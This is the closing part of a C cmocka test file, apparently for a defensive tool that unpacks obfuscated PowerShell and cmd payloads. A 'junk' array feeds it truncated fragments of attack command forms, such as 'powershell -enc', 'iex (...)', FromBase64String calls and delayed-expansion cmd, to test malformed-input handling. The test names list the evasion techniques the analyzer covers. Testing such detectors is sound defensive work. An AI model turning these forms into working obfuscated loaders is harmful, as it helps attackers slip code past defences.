    assert_int_equal(wh_payload_analyze(NULL, 3, NULL, NULL, NULL, &q), WH_E_ARG);
    assert_int_equal(wh_payload_analyze("x", 1, NULL, NULL, NULL, NULL), WH_E_ARG);
    wh_payload_free(NULL);
    const char *junk[] = {"powershell -enc", "powershell -enc ====", "[Convert]::FromBase64String('", "'a'+",
                          "\"{0\" -f 'a'", "[char[]](1,", "%", "!x!", "cmd /v /c !", "\\\\", "http://", "C:\\",
                          "HKLM\\", "'''", "\"\"\"", "`", "iex (((((((((('a')))))))))"};
    for (size_t i = 0; i < sizeof(junk) / sizeof(junk[0]); i++) {
        p = run(junk[i]);
        wh_payload_free(p);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(encoded_every_spelling),
        cmocka_unit_test(encoded_lookalikes),
        cmocka_unit_test(frombase64_forms),
        cmocka_unit_test(char_codes),
        cmocka_unit_test(cmd_caret),
        cmocka_unit_test(cmd_vars),
        cmocka_unit_test(cmd_delayed),
        cmocka_unit_test(ps_backtick),
        cmocka_unit_test(ps_concat_format_replace),
        cmocka_unit_test(ps_iex),
        cmocka_unit_test(chained_layers),
        cmocka_unit_test(indicators),
        cmocka_unit_test(program_and_short_names),
        cmocka_unit_test(script_behaviour),
        cmocka_unit_test(bound_depth),
        cmocka_unit_test(bound_bytes_and_time),
        cmocka_unit_test(bound_indicators),
        cmocka_unit_test(bound_gzip_bomb),
        cmocka_unit_test(malformed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
